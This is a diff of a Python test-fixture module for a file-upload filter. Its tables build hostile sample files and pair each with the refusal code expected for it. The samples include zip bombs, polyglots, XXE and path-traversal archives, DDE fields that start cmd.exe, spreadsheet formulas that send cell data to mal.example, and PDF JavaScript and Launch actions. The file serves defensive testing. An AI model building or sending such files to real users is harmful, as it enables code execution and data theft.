@@ -1,14 +1,12 @@
 """Files that somebody could send to do harm, each built here: (name, bytes, code of the refusal).
 
-For those that are made harmless instead of being refused, see `MADE_HARMLESS`: what must not be in what is kept.
+Those that are made harmless instead of being refused are in `harmless`.
 """
 
 # A case is a line: the table is read as one.
 # ruff: noqa: E501
 
-import io
 import struct
-import zipfile
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -18,7 +16,6 @@ from tests.core.uploads.builders import (
     archive,
     docx,
     manifest,
-    mp3,
     odf,
     pdf,
     pdf_stream,
@@ -27,6 +24,36 @@ from tests.core.uploads.builders import (
     relations,
     svg,
     xlsx,
+)
+from tests.core.uploads.tricks import (
+    EXE,
+    LAUGHS,
+    OLE,
+    PAGE,
+    RELS,
+    SCRIPT,
+    XXE,
+    action,
+    annotation,
+    bomb,
+    cell,
+    deep_xml,
+    encrypted_flag,
+    field,
+    gap,
+    hidden_behind_incremental,
+    in_object_stream,
+    incremental,
+    link_part,
+    lying_bomb,
+    lzma,
+    many_elements,
+    object_stream_bomb,
+    odt_part,
+    overlapping,
+    part,
+    twice,
+    zip_after,
 )
 
 
@@ -42,195 +69,6 @@ class Case:
 
 def _c(title: str, name: str, build: bytes | Callable[[], bytes], code: str) -> Case:
     return Case(title, name, (lambda: build) if isinstance(build, bytes) else build, code)
-
-
-def part(name: str, content: str | bytes, **options: object) -> Callable[[], bytes]:
-    """A Word file with one more part."""
-    return lambda: docx({name: content}, **options)
-
-
-def odt_part(name: str, content: str | bytes, **options: object) -> Callable[[], bytes]:
-    return lambda: odf({name: content}, **options)
-
-
-SCRIPT = b"<script>alert(1)</script>"
-PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
-EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 120 + b"PE\0\0"
-OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
-XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
-LAUGHS = (
-    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
-    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
-    + "]><l>&j;</l>"
-)
-RELS = "word/_rels/document.xml.rels"
-
-
-def _zip_after(data: bytes, comment: bytes = b"") -> bytes:
-    """`data`, then an archive that a reader of archives finds from the end."""
-    buffer = io.BytesIO()
-    buffer.write(data)
-    with zipfile.ZipFile(buffer, "a") as file:
-        file.writestr("virus.exe", EXE)
-        file.comment = comment
-    return buffer.getvalue()
-
-
-def _bomb(size: int = 300_000_000) -> bytes:
-    """A Word file with a part of `size` zeros, made without holding them."""
-    buffer = io.BytesIO(docx())
-    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as file, file.open("word/media/image1.png", "w") as part:
-        for _n in range(size // 1_000_000):
-            part.write(b"\0" * 1_000_000)
-    return buffer.getvalue()
-
-
-def _lying_bomb() -> bytes:
-    """A part that says it has 10 bytes and inflates to millions."""
-    data = bytearray(docx({"word/media/big.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 5_000_000}))
-    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
-        at = data.find(mark)
-        while at >= 0:
-            length = struct.unpack("<H", data[at + (26 if place == 22 else 28) : at + (28 if place == 22 else 30)])[0]
-            start = at + (30 if place == 22 else 46)
-            if data[start : start + length] == b"word/media/big.png":
-                data[at + place : at + place + 4] = struct.pack("<I", 10)
-            at = data.find(mark, at + 4)
-    return bytes(data)
-
-
-def _overlapping() -> bytes:
-    """Twenty parts that are the same bytes: small, and twenty times as large when read."""
-    data = docx({f"word/media/i{n}.png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20 for n in range(20)})
-    with zipfile.ZipFile(io.BytesIO(data)) as file:
-        first = file.getinfo("word/media/i0.png").header_offset
-    changed = bytearray(data)
-    at = changed.find(b"PK\x01\x02")
-    while at >= 0:
-        length = struct.unpack("<H", changed[at + 28 : at + 30])[0]
-        if bytes(changed[at + 46 : at + 46 + length]).startswith(b"word/media/i"):
-            changed[at + 42 : at + 46] = struct.pack("<I", first)
-        at = changed.find(b"PK\x01\x02", at + 4)
-    return bytes(changed)
-
-
-def _link_part() -> bytes:
-    buffer = io.BytesIO(docx())
-    with zipfile.ZipFile(buffer, "a") as file:
-        info = zipfile.ZipInfo("word/media/link.png")
-        info.external_attr = 0o120777 << 16
-        file.writestr(info, "/etc/passwd")
-    return buffer.getvalue()
-
-
-def _twice() -> bytes:
-    buffer = io.BytesIO(docx())
-    with zipfile.ZipFile(buffer, "a") as file:
-        # `archive` would warn of the same name; another case is the same file on Windows.
-        file.writestr("word/DOCUMENT.xml", b.word(b.HELLO))
-    return buffer.getvalue()
-
-
-def _encrypted_flag() -> bytes:
-    data = bytearray(docx())
-    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
-        at = data.find(mark)
-        data[at + place] |= 1
-    return bytes(data)
-
-
-def _deep_xml() -> bytes:
-    return docx({"word/deep.xml": "<a>" * 50_000 + "</a>" * 50_000})
-
-
-def _many_elements() -> bytes:
-    """Random enough not to be refused for how well it shrinks."""
-    return docx(
-        {"word/many.xml": "<a>" + "".join(f'<b x="{n * 2654435761 % 2**32:x}"/>' for n in range(600_000)) + "</a>"}
-    )
-
-
-def _lzma() -> bytes:
-    buffer = io.BytesIO(docx())
-    with zipfile.ZipFile(buffer, "a") as file:
-        file.writestr("word/media/i.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, zipfile.ZIP_LZMA)
-    return buffer.getvalue()
-
-
-def _gap() -> bytes:
-    """Something hidden between two parts of an archive, which no list names."""
-    plain = docx()
-    with zipfile.ZipFile(io.BytesIO(plain)) as file:
-        start = file.start_dir
-    hidden = EXE * 50
-    end = bytearray(plain[start:])
-    place = end.rfind(b"PK\x05\x06")
-    end[place + 16 : place + 20] = struct.pack("<I", start + len(hidden))
-    return plain[:start] + hidden + bytes(end)
-
-
-def _action(inside: str) -> Callable[[], bytes]:
-    return lambda: pdf(f"<<{inside}>>", catalogue="/OpenAction 4 0 R")
-
-
-def _annotation(inside: str) -> Callable[[], bytes]:
-    return lambda: pdf(f"<</Type/Annot/Rect[0 0 9 9]{inside}>>")
-
-
-def _in_object_stream(inside: str) -> bytes:
-    """A PDF whose objects are in a compressed stream, where a search through the bytes finds nothing."""
-    body = f"5 0 {inside}".encode()
-    stream = pdf_stream(body, "/Type/ObjStm/N 1/First 4")
-    data = b"%PDF-1.7\n"
-    places = {}
-    objects = {
-        1: "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
-        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
-        3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
-        4: stream,
-    }
-    for number, text in objects.items():
-        places[number] = len(data)
-        data += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
-    rows = b"\0\0\0\xff" + b"".join(struct.pack(">BHB", 1, places[n], 0) for n in (1, 2, 3, 4))
-    rows += struct.pack(">BHB", 2, 4, 0) + struct.pack(">BHB", 1, len(data), 0)
-    table = pdf_stream(rows, "/Type/XRef/Size 7/W[1 2 1]/Root 1 0 R")
-    return data + f"6 0 obj\n{table}\nendobj\nstartxref\n{len(data)}\n%%EOF\n".encode("latin-1")
-
-
-def _incremental() -> bytes:
-    """A clean PDF, then a second version of its catalogue that runs code."""
-    first = pdf("<</S/GoTo/D[3 0 R/Fit]>>", catalogue="/OpenAction 4 0 R")
-    place = len(first)
-    more = b"4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"
-    previous = first.rfind(b"xref\n0")
-    end = f"xref\n4 1\n{place:010} 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev {previous}>>\nstartxref\n{place + len(more)}\n%%EOF\n"
-    return first + more + end.encode()
-
-
-def _hidden_behind_incremental() -> bytes:
-    """The reverse: the last version is clean, the code is in one that another reader may find."""
-    first = pdf("<</S/JavaScript/JS(app.alert(1))>>", catalogue="/OpenAction 4 0 R")
-    place = len(first)
-    more = b"4 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n"
-    previous = first.rfind(b"xref\n0")
-    end = f"xref\n4 1\n{place:010} 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev {previous}>>\nstartxref\n{place + len(more)}\n%%EOF\n"
-    return first + more + end.encode()
-
-
-def _field(*pieces: str) -> Callable[[], bytes]:
-    """A Word field whose instruction is cut in pieces."""
-    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
-    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
-    return lambda: docx(body=f"<w:p>{begin}{runs}{end}</w:p>")
-
-
-def _cell(formula: str) -> Callable[[], bytes]:
-    return lambda: xlsx(cells=f"<c><f>{formula}</f><v>1</v></c>")
-
-
-def _object_stream_bomb() -> bytes:
-    return _in_object_stream("[" + "0 " * 30_000_000 + "]")
 
 
 _NAMES = [
@@ -298,33 +136,33 @@ _TWO_IN_ONE = [
     _c("a PDF with a page before it", "cours.pdf", PAGE + pdf(), "mismatch"),
     _c("a PDF with a page in its first line", "cours.pdf", lambda: pdf(header="%PDF-1.7\n%<html>" + SCRIPT.decode() + "\n"), "two_in_one"),
     _c("a PDF with a page after its end", "cours.pdf", pdf() + PAGE, "two_in_one"),
-    _c("a PDF with an archive after its end", "cours.pdf", lambda: _zip_after(pdf()), "two_in_one"),
-    _c("a PDF that is an archive too, closed by a second end", "cours.pdf", lambda: _zip_after(pdf(), b"\n%%EOF\n"), "two_in_one"),
+    _c("a PDF with an archive after its end", "cours.pdf", lambda: zip_after(pdf()), "two_in_one"),
+    _c("a PDF that is an archive too, closed by a second end", "cours.pdf", lambda: zip_after(pdf(), b"\n%%EOF\n"), "two_in_one"),
     _c("a Word file with a program before it", "cours.docx", EXE + docx(), "mismatch"),
     _c("a Word file with a PDF in its first bytes", "cours.docx", lambda: archive({"[Content_Types].xml": pdf()}, stored=["[Content_Types].xml"]), "two_in_one"),
     _c("a LibreOffice text with a page in its first bytes", "cours.odt", lambda: archive({"mimetype": PAGE}, stored=["mimetype"]), "two_in_one"),
     _c("a Word file with a program after it", "cours.docx", docx() + EXE, "two_in_one"),
-    _c("a Word file whose comment is a page", "cours.docx", lambda: _zip_after(docx(), PAGE), "two_in_one"),
-    _c("a Word file with a program between two parts", "cours.docx", _gap, "two_in_one"),
-    _c("a text with an archive at its end", "cours.txt", lambda: _zip_after(b"bonjour\n"), "two_in_one"),
+    _c("a Word file whose comment is a page", "cours.docx", lambda: zip_after(docx(), PAGE), "two_in_one"),
+    _c("a Word file with a program between two parts", "cours.docx", gap, "two_in_one"),
+    _c("a text with an archive at its end", "cours.txt", lambda: zip_after(b"bonjour\n"), "two_in_one"),
 ]  # fmt: skip
 
 _ARCHIVES = [
-    _c("a bomb of 300 MB", "cours.docx", _bomb, "bomb"),
-    _c("a bomb under the total", "cours.docx", lambda: _bomb(60_000_000), "bomb"),
-    _c("a bomb that lies about its size", "cours.docx", _lying_bomb, "damaged"),
-    _c("parts that share their bytes", "cours.docx", _overlapping, "bomb"),
+    _c("a bomb of 300 MB", "cours.docx", bomb, "bomb"),
+    _c("a bomb under the total", "cours.docx", lambda: bomb(60_000_000), "bomb"),
+    _c("a bomb that lies about its size", "cours.docx", lying_bomb, "damaged"),
+    _c("parts that share their bytes", "cours.docx", overlapping, "bomb"),
     _c("ten thousand parts", "cours.docx", lambda: docx({f"word/{n}.xml": "<a/>" for n in range(10_000)}), "bomb"),
-    _c("a bomb inside a workbook inside slides", "cours.pptx", lambda: pptx({"ppt/embeddings/w.xlsx": _bomb(60_000_000)}), "bomb"),
+    _c("a bomb inside a workbook inside slides", "cours.pptx", lambda: pptx({"ppt/embeddings/w.xlsx": bomb(60_000_000)}), "bomb"),
     _c("a workbook inside a workbook inside slides", "cours.pptx", lambda: pptx({"ppt/embeddings/w.xlsx": xlsx({"xl/embeddings/w.xlsx": xlsx()})}), "object"),
     _c("a path that climbs", "cours.docx", part("../../../etc/cron.d/x.xml", "<a/>"), "unsafe_part"),
     _c("a path that climbs in the middle", "cours.odt", odt_part("Pictures/../../x.png", b"x"), "unsafe_part"),
     _c("a path from the root", "cours.docx", part("/etc/passwd.xml", "<a/>"), "unsafe_part"),
     _c("a path of Windows", "cours.docx", part("C:\\Windows\\x.xml", "<a/>"), "unsafe_part"),
-    _c("a link to a file of the server", "cours.docx", _link_part, "unsafe_part"),
-    _c("two parts of one name", "cours.docx", _twice, "unsafe_part"),
-    _c("a part behind a password", "cours.docx", _encrypted_flag, "locked"),
-    _c("an unusual compression", "cours.docx", _lzma, "unsafe_part"),
+    _c("a link to a file of the server", "cours.docx", link_part, "unsafe_part"),
+    _c("two parts of one name", "cours.docx", twice, "unsafe_part"),
+    _c("a part behind a password", "cours.docx", encrypted_flag, "locked"),
+    _c("an unusual compression", "cours.docx", lzma, "unsafe_part"),
     _c("a program among the parts", "cours.docx", part("word/media/virus.exe", EXE), "unsafe_part"),
     _c("a program that says it is a picture, inside", "cours.docx", part("word/media/i.png", EXE), "unsafe_part"),
     _c("a program that says it is a drawing of Windows, inside", "cours.docx", part("word/media/i.emf", EXE), "unsafe_part"),
@@ -333,8 +171,8 @@ _ARCHIVES = [
     _c("a part whose checksum is wrong", "cours.odt", odf().replace(b"application/vnd.oasis.opendocument.text", b"application/vnd.oasis.opendocument.texT", 1), "damaged"),
     _c("XML that never closes", "cours.docx", part("word/x.xml", "<a><b>"), "damaged"),
     _c("XML in an encoding that hides", "cours.docx", part("word/x.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>'), "damaged"),
-    _c("XML fifty thousand deep", "cours.docx", _deep_xml, "bomb"),
-    _c("more XML elements than a document has", "cours.docx", _many_elements, "bomb"),
+    _c("XML fifty thousand deep", "cours.docx", deep_xml, "bomb"),
+    _c("more XML elements than a document has", "cours.docx", many_elements, "bomb"),
 ]  # fmt: skip
 
 _XML = [
@@ -373,21 +211,21 @@ _WORD = [
     _c("a link to a program", "cours.docx", part(RELS, relations(("hyperlink", "file:///C:/Windows/System32/cmd.exe", True))), "link"),
     _c("a link with code", "cours.docx", part(RELS, relations(("hyperlink", "javascript:alert(1)", True))), "link"),
     _c("a link for a Windows tool (CVE-2022-30190)", "cours.docx", part(RELS, relations(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))), "link"),
-    _c("a field that starts a program", "cours.docx", _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "outside"),
-    _c("the same, cut in pieces", "cours.docx", _field("DDE", "AUTO ", "cmd.exe"), "outside"),
+    _c("a field that starts a program", "cours.docx", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "outside"),
+    _c("the same, cut in pieces", "cours.docx", field("DDE", "AUTO ", "cmd.exe"), "outside"),
     _c("the same, as a simple field", "cours.docx", lambda: docx(body='<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'), "outside"),
-    _c("the same, as numbers", "cours.docx", _field("QUOTE 68 68 69 65"), "outside"),
-    _c("a field that reads another file", "cours.docx", _field('INCLUDETEXT "C:\\secret.txt"'), "outside"),
-    _c("a field that fetches a picture", "cours.docx", _field('INCLUDEPICTURE "http://mal.example/x"'), "outside"),
-    _c("a button for a macro", "cours.docx", _field("MACROBUTTON Auto Cliquez"), "outside"),
+    _c("the same, as numbers", "cours.docx", field("QUOTE 68 68 69 65"), "outside"),
+    _c("a field that reads another file", "cours.docx", field('INCLUDETEXT "C:\\secret.txt"'), "outside"),
+    _c("a field that fetches a picture", "cours.docx", field('INCLUDEPICTURE "http://mal.example/x"'), "outside"),
+    _c("a button for a macro", "cours.docx", field("MACROBUTTON Auto Cliquez"), "outside"),
     _c("a mailing that reads a base", "cours.docx", part("word/settings.xml", f'<w:settings xmlns:w="{b.W}"><w:mailMerge/></w:settings>'), "outside"),
     _c("a ribbon of its own", "cours.docx", part("customUI/customUI14.xml", '<customUI onLoad="x"/>'), "macro"),
 ]  # fmt: skip
 
 _EXCEL_AND_SLIDES = [
-    _c("a cell that starts a program", "t.xlsx", _cell("cmd|'/c calc'!A0"), "formula"),
-    _c("a cell that sends data", "t.xlsx", _cell('WEBSERVICE("http://mal.example/"&amp;A1)'), "formula"),
-    _c("a cell that calls a library", "t.xlsx", _cell('CALL("Kernel32","WinExec","JCJ","calc",0)'), "formula"),
+    _c("a cell that starts a program", "t.xlsx", cell("cmd|'/c calc'!A0"), "formula"),
+    _c("a cell that sends data", "t.xlsx", cell('WEBSERVICE("http://mal.example/"&amp;A1)'), "formula"),
+    _c("a cell that calls a library", "t.xlsx", cell('CALL("Kernel32","WinExec","JCJ","calc",0)'), "formula"),
     _c("a sheet of macros", "t.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
     _c("a link to another workbook", "t.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside"),
     _c("a connection to a base", "t.xlsx", lambda: xlsx({"xl/connections.xml": "<a/>"}), "outside"),
@@ -437,28 +275,28 @@ _LIBREOFFICE = [
 ]  # fmt: skip
 
 _PDF = [
-    _c("code when it opens", "cours.pdf", _action("/S/JavaScript/JS(app.alert(1))"), "pdf_code"),
-    _c("code under escaped names", "cours.pdf", _action("/S/J#61vaScript/J#53(app.alert(1))"), "pdf_code"),
+    _c("code when it opens", "cours.pdf", action("/S/JavaScript/JS(app.alert(1))"), "pdf_code"),
+    _c("code under escaped names", "cours.pdf", action("/S/J#61vaScript/J#53(app.alert(1))"), "pdf_code"),
     _c("code in the list of names", "cours.pdf", lambda: pdf("<</Names[(a)5 0 R]>>", "<</S/JavaScript/JS(1)>>", catalogue="/Names<</JavaScript 4 0 R>>"), "pdf_code"),
-    _c("code in a compressed stream of objects", "cours.pdf", lambda: _in_object_stream("<</S/JavaScript/JS(app.alert(1))>>"), "pdf_code"),
-    _c("code added by a later version", "cours.pdf", _incremental, "pdf_code"),
-    _c("code behind a later, clean version", "cours.pdf", _hidden_behind_incremental, "pdf_code"),
+    _c("code in a compressed stream of objects", "cours.pdf", lambda: in_object_stream("<</S/JavaScript/JS(app.alert(1))>>"), "pdf_code"),
+    _c("code added by a later version", "cours.pdf", incremental, "pdf_code"),
+    _c("code behind a later, clean version", "cours.pdf", hidden_behind_incremental, "pdf_code"),
     _c("code in a form", "cours.pdf", lambda: pdf("<</XFA(x)>>", catalogue="/AcroForm 4 0 R"), "pdf_code"),
     _c("code when a page opens", "cours.pdf", lambda: pdf("<</O<</S/Named/N/Print>>>>", catalogue="/AA 4 0 R"), "pdf_action"),
-    _c("an order when it opens", "cours.pdf", _action("/S/URI/URI(http://mal.example/)"), "pdf_action"),
-    _c("a program", "cours.pdf", _action("/S/Launch/F(cmd.exe)"), "pdf_action"),
-    _c("a program, later in a chain", "cours.pdf", _action("/S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(cmd.exe)>>"), "pdf_action"),
-    _c("a program behind a link", "cours.pdf", _annotation("/Subtype/Link/A<</S/Launch/F(cmd.exe)>>"), "pdf_action"),
-    _c("a form sent elsewhere", "cours.pdf", _annotation("/Subtype/Widget/A<</S/SubmitForm/F(http://mal.example/)>>"), "pdf_action"),
-    _c("data read from elsewhere", "cours.pdf", _annotation("/A<</S/ImportData/F(x)>>"), "pdf_action"),
+    _c("an order when it opens", "cours.pdf", action("/S/URI/URI(http://mal.example/)"), "pdf_action"),
+    _c("a program", "cours.pdf", action("/S/Launch/F(cmd.exe)"), "pdf_action"),
+    _c("a program, later in a chain", "cours.pdf", action("/S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(cmd.exe)>>"), "pdf_action"),
+    _c("a program behind a link", "cours.pdf", annotation("/Subtype/Link/A<</S/Launch/F(cmd.exe)>>"), "pdf_action"),
+    _c("a form sent elsewhere", "cours.pdf", annotation("/Subtype/Widget/A<</S/SubmitForm/F(http://mal.example/)>>"), "pdf_action"),
+    _c("data read from elsewhere", "cours.pdf", annotation("/A<</S/ImportData/F(x)>>"), "pdf_action"),
     _c("a file inside", "cours.pdf", lambda: pdf("<</Type/Filespec/EF<</F 5 0 R>>>>", pdf_stream(EXE, "/Type/EmbeddedFile")), "pdf_file"),
-    _c("a file pinned to a page", "cours.pdf", _annotation("/Subtype/FileAttachment"), "pdf_file"),
-    _c("a PDF inside that opens", "cours.pdf", _action("/S/GoToE/D(x)"), "pdf_file"),
-    _c("a film", "cours.pdf", _annotation("/Subtype/RichMedia"), "pdf_media"),
-    _c("a sound", "cours.pdf", _annotation("/A<</S/Rendition>>"), "pdf_media"),
-    _c("a link with code", "cours.pdf", _annotation("/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>"), "link"),
-    _c("a link to a shared disk", "cours.pdf", _annotation("/Subtype/Link/A<</S/URI/URI(file://mal.example/x)>>"), "link"),
-    _c("a link to another file", "cours.pdf", _annotation("/Subtype/Link/A<</S/GoToR/F(\\\\\\\\mal.example\\\\x.pdf)>>"), "link"),
+    _c("a file pinned to a page", "cours.pdf", annotation("/Subtype/FileAttachment"), "pdf_file"),
+    _c("a PDF inside that opens", "cours.pdf", action("/S/GoToE/D(x)"), "pdf_file"),
+    _c("a film", "cours.pdf", annotation("/Subtype/RichMedia"), "pdf_media"),
+    _c("a sound", "cours.pdf", annotation("/A<</S/Rendition>>"), "pdf_media"),
+    _c("a link with code", "cours.pdf", annotation("/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>"), "link"),
+    _c("a link to a shared disk", "cours.pdf", annotation("/Subtype/Link/A<</S/URI/URI(file://mal.example/x)>>"), "link"),
+    _c("a link to another file", "cours.pdf", annotation("/Subtype/Link/A<</S/GoToR/F(\\\\\\\\mal.example\\\\x.pdf)>>"), "link"),
     _c("a PDF behind a password", "cours.pdf", lambda: pdf("<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -1>>", trailer="/Encrypt 4 0 R/ID[(a)(a)]"), "locked"),
     _c("half of a PDF", "cours.pdf", pdf()[:120], "damaged"),
     _c("no page", "cours.pdf", b"%PDF-1.7\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF", "damaged"),
@@ -466,7 +304,7 @@ _PDF = [
     _c("an array eighty deep", "cours.pdf", lambda: pdf("[" * 80 + "]" * 80), "bomb"),
     _c("an array ten thousand deep", "cours.pdf", lambda: pdf("[" * 20_000 + "]" * 20_000), "damaged"),
     _c("a hundred thousand objects", "cours.pdf", lambda: pdf(*["null"] * 100_000), "bomb"),
-    _c("a stream of objects that inflates to 60 MB", "cours.pdf", _object_stream_bomb, "damaged"),
+    _c("a stream of objects that inflates to 60 MB", "cours.pdf", object_stream_bomb, "damaged"),
 ]  # fmt: skip
 
 _PICTURES = [
@@ -499,67 +337,3 @@ _TEXTS = [
 CASES = [
     *_NAMES, *_DISGUISED, *_TWO_IN_ONE, *_ARCHIVES, *_XML, *_WORD, *_EXCEL_AND_SLIDES, *_LIBREOFFICE, *_PDF, *_PICTURES, *_TEXTS,
 ]  # fmt: skip
-
-
-@dataclass(frozen=True)
-class Harmless:
-    """Accepted, but changed: `gone` is in what is sent and must not be in what is kept."""
-
-    title: str
-    name: str
-    build: Callable[[], bytes]
-    gone: bytes
-    kept_name: str
-
-
-def _table(cell: str) -> Callable[[], bytes]:
-    return lambda: f"nom;note\n{cell};12\n".encode()
-
-
-MADE_HARMLESS = [
-    Harmless("where a photo was taken", "photo.jpg", b.photo_with_place, b"Exif", "photo.jpg"),
-    Harmless("who took it", "photo.jpg", b.photo_with_place, b"Nadia Belkacem", "photo.jpg"),
-    Harmless("a comment in a photo", "photo.jpg", b.photo_with_place, b"SECRET-COMMENT", "photo.jpg"),
-    Harmless("a program after a photo", "photo.jpeg", lambda: picture("JPEG") + EXE, EXE, "photo.jpg"),
-    Harmless("a page after a picture", "photo.png", lambda: picture() + PAGE, PAGE, "photo.png"),
-    Harmless("an archive after a picture", "photo.png", lambda: _zip_after(picture()), b"PK\x05\x06", "photo.png"),
-    Harmless("an archive after a photo", "photo.jpg", lambda: _zip_after(picture("JPEG")), b"PK\x05\x06", "photo.jpg"),
-    Harmless("a page in a photo's comment", "photo.jpg", lambda: picture("JPEG", comment=PAGE), PAGE, "photo.jpg"),
-    Harmless("an archive after a sound", "son.mp3", lambda: _zip_after(mp3()), b"PK\x05\x06", "son.mp3"),
-    Harmless("a program in a chunk of a picture", "photo.png", lambda: picture(pnginfo=_chunk(EXE)), EXE, "photo.png"),
-    Harmless("a page in a WebP's description", "photo.webp", lambda: picture("WEBP", exif=b"Exif\0\0" + SCRIPT), SCRIPT, "photo.webp"),
-    Harmless("a profile of colours that is a program", "photo.jpg", lambda: picture("JPEG", icc_profile=EXE * 40), EXE, "photo.jpg"),
-    Harmless("a tag of a sound that is a page", "son.mp3", lambda: _tagged(SCRIPT) + mp3(), SCRIPT, "son.mp3"),
-    Harmless("a program after a sound", "son.mp3", lambda: mp3() + EXE, EXE, "son.mp3"),
-    Harmless("a formula in a table", "t.csv", _table("=1+1"), b"\n=1+1", "t.csv"),
-    Harmless("a formula that starts a program", "t.csv", _table("=cmd|'/c calc'!A0"), b"\n=cmd", "t.csv"),
-    Harmless("a formula that begins with +", "t.csv", _table("+cmd|'/c calc'!A0"), b"\n+cmd", "t.csv"),
-    Harmless("a formula that begins with -", "t.csv", _table("-2+3+cmd|'/c calc'!A0"), b"\n-2", "t.csv"),
-    Harmless("a formula that begins with @", "t.csv", _table("@SUM(1+1)*cmd|'/c calc'!A0"), b"\n@SUM", "t.csv"),
-    Harmless("a formula behind spaces", "t.csv", _table("  =1+1"), b"\n  =1", "t.csv"),
-    Harmless("a formula behind a quote", "t.csv", _table('"=1+1"'), b"\n=1", "t.csv"),
-    Harmless("a formula for whoever cuts at commas", "t.csv", _table("a,=1+1"), b",=1", "t.csv"),
-    Harmless("a formula on a second line of a cell", "t.csv", _table('"a\n=1+1"'), b"\n=1", "t.csv"),
-    Harmless("a full-width formula", "t.csv", _table("＝1+1"), "\n＝1".encode(), "t.csv"),
-    Harmless("a text that turns its direction", "t.txt", lambda: "bon\u202etxt.exe".encode(), "\u202e".encode(), "t.txt"),
-    Harmless("a name that climbs", "../../etc/cron.d/x.png", picture, b"nothing", "x.png"),
-    Harmless("a name of Windows", "C:\\Windows\\CON.png", picture, b"nothing", "fichier-con.png"),
-    Harmless("two extensions", "virus.exe.png", picture, b"nothing", "virus-exe.png"),
-    Harmless("a page in a name", "<script>alert(1)<!--.png", picture, b"nothing", "script-alert-1.png"),
-    Harmless("quotes and lines in a name", 'a"\r\nSet-Cookie: x=1;.png', picture, b"nothing", "x-1.png"),
-    Harmless("three hundred letters", "é" * 300 + ".png", picture, b"nothing", "e" * 60 + ".png"),
-    Harmless("letters that turn the direction", "photo\u202egnp.exe.png", picture, b"nothing", "photognp-exe.png"),
-    Harmless("nothing that Latin letters can say", "🙈.png", picture, b"nothing", "see-no-evil.png"),
-]  # fmt: skip
-
-
-def _chunk(data: bytes) -> object:
-    from PIL.PngImagePlugin import PngInfo
-
-    info = PngInfo()
-    info.add(b"prVt", data)
-    return info
-
-
-def _tagged(text: bytes) -> bytes:
-    return b"ID3\x03\0\0\0\0\0" + bytes([len(text)]) + text
